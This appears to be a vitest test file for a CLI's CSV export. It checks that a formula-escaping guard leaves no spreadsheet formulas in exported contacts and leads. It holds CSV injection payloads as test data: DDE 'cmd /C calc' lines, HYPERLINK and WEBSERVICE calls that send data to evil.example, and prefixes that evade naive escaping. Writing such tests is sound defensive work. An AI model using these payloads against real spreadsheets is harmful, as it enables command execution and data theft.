import { execFileSync } from 'node:child_process';
import { readFileSync } from 'node:fs';
import { join } from 'node:path';
import { pathToFileURL } from 'node:url';
import { parse } from 'csv-parse/sync';
import fc from 'fast-check';
import { expect, test } from 'vitest';
import { guarded, unguardedCell } from '../../../src/base/escape/csv-formula.js';
import { csvRecords, noChanges, plainCsv } from '../../../src/exports/write/csv.js';
import { emulator, heldContacts } from '../../support/emulator.js';
import { run } from '../../support/io.js';
import { isInstalled } from '../../support/programs.js';
import { file, workdir } from '../../support/workdir.js';

const hasOffice = isInstalled('soffice', 'no spreadsheet judges the formula guard');

const formulas = [
  ...[
    '1+1',
    "cmd|' /C calc'!A0",
    'HYPERLINK("http://evil.example/?x="&A1,"click")',
    'WEBSERVICE("http://evil.example")',
  ],
  ...[
    'IMPORTXML("http://evil.example","//a")',
    'SUM(1,2)',
    'DDE("cmd";"/C calc";"x")',
    '2+5+cmd|x',
    'A1',
    '"a"&"b"',
  ],
];
const operators = ['=', '+', '-', '@', '＝', '＋', '－', '＠', '==', '=+', '+=', '-@'];
/** Prefixes that hide an operator from an escape that checks the first character only. */
const disguises = [
  ...[
    '',
    ' ',
    '  ',
    '\t',
    '\n',
    '\r',
    '\r\n',
    '\u0000',
    '\u0001',
    '\u001f',
    '\u00a0',
    '\u200b',
    '\ufeff',
    '\u2060',
    "'",
    '"',
  ],
  ...[
    'a;',
    'a,',
    'a\t',
    'a|',
    'a"',
    'a;"',
    'a;\u0000',
    'a; ',
    'a\n',
    'a\r',
    'x;y;',
    '";"',
    "';",
    'a;\u200b',
    '\u0000\t',
  ],
];
const payloads = [
  ...formulas.flatMap((formula) =>
    operators.flatMap((operator) => disguises.map((disguise) => `${disguise}${operator}${formula}`)),
  ),
  ...operators.flatMap((operator) =>
    disguises.map((disguise) => `${disguise}${operator}1;${operator}2,${operator}3`),
  ),
];

/** The number of cells that LibreOffice turns into formulas when it splits at this separator. */
function formulaCells(csv: string, separator: string, name: string): number {
  return opened(csv, separator, name).match(/table:formula=/g)?.length ?? 0;
}

/** The sheet that LibreOffice makes of a CSV in a language (a Windows language id, 0: its own), as XML. */
function opened(csv: string, separator: string, name: string, language = 0): string {
  const directory = workdir();
  const path = file(csv, `${name}.csv`, directory);
  const options = `${separator.charCodeAt(0)},34,76,1,,${language},false,true,false,false,false,0,true`;
  execFileSync(
    'soffice',
    [
      `-env:UserInstallation=${pathToFileURL(join(directory, 'profile')).href}`,
      ...['--headless', '--norestore', `--infilter=Text - txt - csv (StarCalc):${options}`],
      ...['--convert-to', 'fods', '--outdir', directory, path],
    ],
    { stdio: 'ignore', timeout: 120_000 },
  );
  return readFileSync(join(directory, `${name}.fods`), 'utf8');
}

/** The second cell of each row of a sheet: its text, or its number, or another kind of value. */
function secondCells(sheet: string): readonly string[] {
  return [...sheet.matchAll(/<table:table-row[^>]*>(.*?)<\/table:table-row>/gs)].flatMap(([, row = '']) => {
    const [, cell] = [...row.matchAll(/<table:table-cell([^>]*)>(.*?)<\/table:table-cell>/gs)];
    const [, attributes = '', content = ''] = cell ?? [];
    if (cell === undefined) return [];
    const kind = /office:value-type="(\w+)"/.exec(attributes)?.[1];
    if (kind === 'string')
      return [
        content
          .replace(/<text:s\/>/g, ' ')
          .replace(/<[^>]*>/g, '')
          .replaceAll('&apos;', "'")
          .trim(),
      ];
    return [kind === 'float' ? (/office:value="([^"]*)"/.exec(attributes)?.[1] ?? '') : `a ${kind}`];
  });
}

function csvOf(cells: readonly string[], isGuarded: boolean, delimiter: ',' | '\t'): string {
  const dialect = { ...plainCsv, delimiter, isGuarded };
  return csvRecords(
    cells.map((cell, i) => [i, cell, 'end']),
    dialect,
    noChanges(),
  );
}

test('S-15 S-16 I-26 there are thousands of payloads', () => {
  expect(payloads.length).toBeGreaterThanOrEqual(4000);
});

test.skipIf(!hasOffice)(
  'S-15 S-16 I-26 LibreOffice finds no formula in them with comma, semicolon or tab; without escaping it does',
  { timeout: 300_000 },
  () => {
    for (const separator of [',', ';', '\t'])
      expect([separator, formulaCells(csvOf(payloads, true, ','), separator, 'safe')]).toEqual([
        separator,
        0,
      ]);
    expect(formulaCells(csvOf(payloads, true, '\t'), '\t', 'tabs')).toBe(0);
    expect(formulaCells(csvOf(payloads, false, ','), ',', 'raw')).toBeGreaterThan(50);
  },
);

/** Telephone numbers as people write them, and anything else of a plus sign, digits, blanks and hyphens. */
const telephones = [
  ...[
    '+12025550003',
    '+49 170 1234567',
    '+1-202-555-0003',
    '+44 20 7946 0958',
    '+1',
    '+1-2',
    '+1 2',
    '+12-12',
  ],
  ...['+123456789012345', '+33 612 345 678', '+2024-01-02', '+24-01-02', '+1-2-3', '+31-12-1999', '+01 2'],
  ...['+1234567890123456', '+2024 01 02', '+1 - 2', '+1--2', '+1-', '+00', '+0049 30 1'],
  ...fc.sample(
    fc
      .tuple(fc.nat(9), fc.string({ unit: fc.constantFrom(...'0123456789 -'), maxLength: 18 }))
      .map(([first, rest]) => `+${first}${rest}`.trim()),
    { seed: 16, numRuns: 1500 },
  ),
];

test.skipIf(!hasOffice).each([
  ['American', 1033],
  ['Swedish', 1053],
])(
  'a plus sign, digits, blanks and hyphens are never a formula in LibreOffice, and what is written bare keeps its digits (%s)',
  { timeout: 120_000 },
  (language, id) => {
    const bare = telephones.filter((text) => !guarded(text).isGuarded);
    expect([bare.length > 800, telephones.length - bare.length > 100]).toEqual([true, true]);
    const csv = csvOf(telephones, true, ',') + csvOf(telephones, false, ',');
    const sheet = opened(csv, ',', `phones-${language}`, id);
    expect(sheet).not.toContain('table:formula=');
    const cells = secondCells(sheet).slice(0, telephones.length);
    expect(secondCells(sheet).length).toBe(2 * telephones.length);
    const digits = (text: string) => text.replace(/\D/g, '');
    // LibreOffice hides the apostrophe before a number. A bare number loses its plus sign, but no digit.
    const single = (text: string) => text.replace(/ +/g, ' ');
    const lost = telephones.filter((text, i) => {
      const cell = unguardedCell(cells[i] ?? '');
      return single(cell) !== single(text) && !(bare.includes(text) && cell === digits(text));
    });
    expect(lost).toEqual([]);
  },
);

test('telephone numbers are written as they are to a file and to a pipe, are not counted, and come back', async () => {
  const api = await emulator();
  const users = ['+49 170 1234567', '+12025550003', '+1 (202) 555-0003'].map((phonenumber, i) => ({
    external_id: `x${i}`,
    phonenumber,
  }));
  await api.ask('POST', '/chatbots/b1/contacts', { users });
  const fields = ['contacts', 'export', '--fields', 'external_id,phonenumber'];
  const rows = ['x0,+49 170 1234567', 'x1,+12025550003', "x2,'+1 (202) 555-0003"];
  const said = expect.stringContaining('1 cell prefixed with an apostrophe');
  const piped = await run(fields, { env: api.env });
  expect([piped.out.trim().split('\n').slice(1).sort(), piped.err]).toEqual([rows, said]);
  const out = join(workdir(), 'contacts.tsv');
  const written = await run([...fields, '--out', out], { env: api.env });
  const lines = readFileSync(out, 'utf8').trim().split('\n').slice(1).sort();
  expect([lines, written.err]).toEqual([rows.map((row) => row.replace(',', '\t')), said]);
  const excel = await run([...fields, '--excel'], { env: api.env });
  expect(excel.out).toContain("x0,'+49 170 1234567\r\n");
  const to = await emulator();
  const again = await run(['contacts', 'import', out, '--unescape-formulas', 'yes'], { env: to.env });
  expect(again.code, again.err).toBe(0);
  const phones = (await heldContacts(to)).map(({ phonenumber }) => phonenumber).sort();
  expect(phones).toEqual(users.map(({ phonenumber }) => phonenumber).sort());
});

test.skipIf(!hasOffice)(
  'I-26 a real export of leads with hostile values has no formulas either',
  { timeout: 120_000 },
  async () => {
    const leads = payloads.slice(0, 1500).map((name, i) => ({ name, email: `=${i}`, phone: '+49 30 1' }));
    const api = await emulator({
      seed: file(JSON.stringify({ bots: [{ id: 'b1', name: 'B', source: 'x', leads }] }), 's.json'),
    });
    const out = join(workdir(), 'leads.csv');
    const ran = await run(['leads', 'export', '--out', out, '--excel'], { env: api.env });
    expect([ran.code, ran.err]).toEqual([
      0,
      expect.stringMatching(
        /control characters removed from cells; JSON keeps them\n4,500 cells prefixed with an apostrophe/,
      ),
    ]);
    const csv = readFileSync(out, 'utf8');
    expect([csv.startsWith('\ufeff'), csv.includes('\r\n')]).toEqual([true, true]);
    for (const separator of [',', ';']) expect(formulaCells(csv, separator, 'leads')).toBe(0);
  },
);

test('S-15 escaping is reversible: text without control characters is restored exactly', () => {
  const clean = payloads.filter((text) => !/[\u0000-\u0008\u000b\u000c\u000e-\u001f\u007f]/.test(text));
  expect(clean.filter((text) => unguardedCell(guarded(text).text) !== text)).toEqual([]);
  const tricky = fc.string({
    unit: fc.constantFrom("'", '=', '+', '-', '@', ';', ',', '"', '|', '\t', '\n', ' ', 'a', '＝'),
  });
  fc.assert(
    fc.property(tricky, (text) => {
      expect(unguardedCell(guarded(text).text)).toBe(text);
    }),
    { numRuns: 2000 },
  );
});

test('S-15 contacts exported as CSV and imported again keep every value', async () => {
  const values = [
    '=1+1',
    "'=1+1",
    '+49 30 1',
    '-',
    '@x',
    'a;=b',
    'line\nbreak, "quoted"',
    'Ünïcödé 😀',
    '  kept  ',
  ];
  const users = values.map((name, i) => ({ external_id: `x${i}`, name, custom_attributes: { plan: name } }));
  const [from, to] = [await emulator(), await emulator()];
  await from.ask('POST', '/chatbots/b1/contacts', { users });
  const csv = join(workdir(), 'contacts.csv');
  expect((await run(['contacts', 'export', '--out', csv], { env: from.env })).code).toBe(0);
  const { code, err } = await run(['contacts', 'import', csv, '--no-trim'], { env: to.env });
  expect(code, err).toBe(0);
  const names = async (api: typeof from) =>
    (await heldContacts(api)).map(({ external_id, name, custom_attributes }) => ({
      external_id,
      name,
      custom_attributes,
    }));
  const byId = (rows: Awaited<ReturnType<typeof names>>) =>
    [...rows].sort((one, other) => (String(one.external_id) < String(other.external_id) ? -1 : 1));
  expect(byId(await names(to))).toEqual(byId(await names(from)));
});

test('--raw-csv leaves cells unchanged, and warns', async () => {
  const api = await emulator();
  await api.visited('leads', [{ name: '=1+1' }]);
  const raw = await run(['leads', 'export', '--fields', 'name', '--raw-csv'], { env: api.env });
  expect([raw.out, raw.err]).toEqual([
    'name\n=1+1\n',
    '1 lead\nCells are not escaped (--raw-csv): a spreadsheet may execute formulas that visitors typed\n',
  ]);
});

test.each([
  [',', '\n'],
  ['\t', '\r\n'],
] as const)(
  'any cells with delimiter %j are read back unchanged, even a single empty cell',
  (delimiter, newline) => {
    const cell = fc.oneof(
      fc.string({ unit: 'grapheme' }),
      fc.constantFrom('', ' ', 'a;b', 'a\tb', '"', 'x\r\ny', ' x '),
    );
    fc.assert(
      fc.property(
        fc.integer({ min: 1, max: 4 }),
        fc.array(cell, { minLength: 4, maxLength: 40 }),
        (width, cells) => {
          const records = cells.flatMap((_, i) =>
            i % width === 0 && i + width <= cells.length ? [cells.slice(i, i + width)] : [],
          );
          const text = csvRecords(records, { delimiter, newline, isGuarded: false }, noChanges());
          expect(parse(text, { delimiter, record_delimiter: newline })).toEqual(records);
        },
      ),
    );
  },
);
